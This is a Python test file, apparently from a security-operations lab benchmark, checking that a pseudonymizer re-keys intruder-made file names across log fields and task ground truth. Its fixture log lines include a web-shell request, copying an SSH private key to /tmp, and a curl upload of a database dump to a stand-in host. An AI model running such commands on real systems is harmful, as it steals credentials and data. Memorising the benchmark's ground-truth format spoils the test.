"""The intruder's own file names in variants (pseudonymize/artifacts.py): taken by a general rule,
re-keyed the same way in every field, while what the system ships keeps its name."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_soclab.pseudonymize import Variant
from pytest_soclab.pseudonymize.artifacts import ArtifactNames, path_names


@pytest.mark.parametrize(
    ("path", "names"),
    [
        ("/tmp/.sysupdate", ["sysupdate"]),
        ("/var/www/shop/public/media/uploads/thumb_8842.php", ["thumb_8842"]),
        ("/media/uploads/thumb_8842.php?c=id", ["thumb_8842"]),
        ("/home/bob/.local/share/dbus-helper/dbus-helper", ["dbus-helper"]),
        ("/home/bob/.config/systemd/user/dbus-helper.service", ["dbus-helper"]),
        ("/tmp/.pgstat/x.tgz", ["pgstat"]),
        ("/dev/shm/.php-session", ["php-session"]),
        (r"C:\Users\alice\Downloads\winx64_payload.exe", ["winx64_payload"]),
        (r"C:\Windows\Temp\debug648.bin", ["debug648"]),
        # one-letter hidden files are learned with their dot, replaced only where a word starts with it
        ("/tmp/.k", [".k"]),
        ("/tmp/.s.sql.gz", [".s"]),
        ("/home/bob/.x/a.tgz", [".x"]),
        # a made-up name with a build directory's random suffix names the package without it
        ("/tmp/pip-install-u5x0c1d3/requests-toolbelt-ng_8c1f", ["requests-toolbelt-ng", "requests-toolbelt-ng_8c1f"]),
        ("/tmp/report_2024.pdf", ["report_2024"]),
        # what the system, a package or a program ships, or a plain word
        ("/usr/bin/python3.11", []),
        ("/usr/lib/x86_64-linux-gnu/libc.so.6", []),
        ("/etc/cron.d/zeekctl", []),
        ("/home/bob/.ssh/authorized_keys", []),
        ("/home/bob/.bash_history", []),
        ("/tmp/notes.txt", []),
        ("/var/www/shop/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", []),
        ("/tmp/ansible-tmp-1715-42/AnsiballZ_apt.py", []),
        (r"C:\Windows\System32\svchost.exe", []),
        (r"C:\Program Files\Sysmon\Sysmon64.exe", []),
        # a per-user install under AppData ships its own names, like Program Files
        (r"C:\Users\alice\AppData\Local\Programs\Python\Python39\python39.dll", []),
        (r"C:\Users\alice\AppData\Local\Programs\Python\Python39\DLLs\libssl-1_1.dll", []),
        (r"C:\Users\alice\AppData\Local\Microsoft\WindowsApps\python3.exe", []),
        # a content hash names a file, no person does: an identifier, kept like the others
        (r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Store\DC52AAE4E7FB3F0C76FEDEC2C00DA0DC", []),
        (r"C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd_7731.exe", ["upd_7731"]),
    ],
)
def test_made_up_names_in_writable_places(path: str, names: list[str]) -> None:
    assert sorted(set(path_names(path))) == names


def _doc(path: str) -> dict:
    name = path.rsplit("/", 1)[-1]
    return {
        "@timestamp": "2024-05-14T02:10:09.000Z",
        "host": {"name": "web-01"},
        "file": {"path": path, "name": name},
        "process": {"name": name, "executable": path, "command_line": f"{path} -c 198.51.100.7:443",
                    "args": [path, "-c", "198.51.100.7:443"], "parent": {"executable": "/usr/bin/bash"}},
        "message": f"started {name} from {path}",
    }  # fmt: skip


def test_a_variant_rekeys_them_alike_in_every_field() -> None:
    doc = _doc("/tmp/.sysupdate")
    v = Variant(1)
    v.learn([doc])
    out = v.document(doc)
    assert "sysupdate" not in json.dumps(out)
    new = out["file"]["path"]
    assert new.startswith("/tmp/.") and out["process"]["executable"] == new
    assert out["process"]["args"][0] == new and out["process"]["command_line"].startswith(new + " ")
    assert out["process"]["name"] == out["file"]["name"] == new.rsplit("/", 1)[-1]
    assert out["process"]["parent"]["executable"] == "/usr/bin/bash"
    task = {"ground_truth": {"iocs": ["/tmp/.sysupdate"], "key_evidence": [{"source": "x", "must_find": "/tmp/.sysupdate"}]}}
    t = v.task(task)
    assert t["ground_truth"]["iocs"] == [new] and t["ground_truth"]["key_evidence"][0]["must_find"] == new


# made-up names; "tmp..." is left to mktemp (such names are runtime files, kept on purpose)
_NAME = st.from_regex(r"[a-z]{3,8}([_-][a-z0-9]{2,6}|[0-9]{2,5})", fullmatch=True).filter(
    lambda n: not n.startswith("tmp")
)


@settings(max_examples=150, deadline=None)
@given(name=_NAME, where=st.sampled_from(["/tmp/", "/dev/shm/.", "/var/tmp/", "/home/eve/.cache/", "/srv/app/uploads/"]),
       ext=st.sampled_from(["", ".sh", ".php", ".bin", ".tgz"]))  # fmt: skip
def test_no_made_up_name_survives_a_variant(name: str, where: str, ext: str) -> None:
    path = f"{where}{name}{ext}"
    doc = _doc(path)
    names = ArtifactNames()
    names.learn(doc)
    assert name in names.names
    v = Variant(2)
    v.learn([doc])
    out = json.dumps(v.document(doc))
    assert name not in out, (path, out)
    # the same name, the same pseudonym, wherever it stands
    again = v.document(_doc(path))
    assert again["file"]["path"] == json.loads(out)["file"]["path"]


def test_a_one_letter_hidden_file_is_re_keyed_where_it_is_a_file_only() -> None:
    """`/tmp/.k` and `/tmp/.s.sql.gz` change in every field and in the task; `curl -k`, `a.k` and the
    letter in prose do not (learning `k` as a word would rewrite them all)."""
    docs = [{"@timestamp": "2024-05-14T02:10:09Z", "file": {"path": "/tmp/.k", "name": ".k"},
             "process": {"command_line": "cp /var/www/.deploy/id_ed25519 /tmp/.k; ls .k",
                         "args": ["ssh", "-i", "/tmp/.k"]}},
            {"@timestamp": "2024-05-14T02:11:09Z", "file": {"path": "/tmp/.s.sql"},
             "process": {"command_line": "gzip /tmp/.s.sql; curl -k -T /tmp/.s.sql.gz http://x/; echo a.k k"}}]  # fmt: skip
    v = Variant(1)
    v.learn(docs)
    a, b = (v.document(d) for d in docs)
    key = a["file"]["name"]
    assert key != ".k" and key.startswith(".") and a["file"]["path"] == "/tmp/" + key
    assert a["process"]["args"][-1] == "/tmp/" + key and a["process"]["command_line"].endswith(f"/tmp/{key}; ls {key}")
    sql = b["file"]["path"].removeprefix("/tmp/")
    assert sql.endswith(".sql") and sql != ".s.sql"
    assert b["process"]["command_line"] == f"gzip /tmp/{sql}; curl -k -T /tmp/{sql}.gz http://x/; echo a.k k"
    task = {"ground_truth": {"iocs": ["/tmp/.k", "/tmp/.s.sql.gz"]}}
    assert v.task(task)["ground_truth"]["iocs"] == ["/tmp/" + key, f"/tmp/{sql}.gz"]
    # another process, with what this one learned as keyed digests only, re-keys the task alike
    other = Variant(1)
    other.load_known(v.export_known())
    assert other.task(task) == v.task(task)
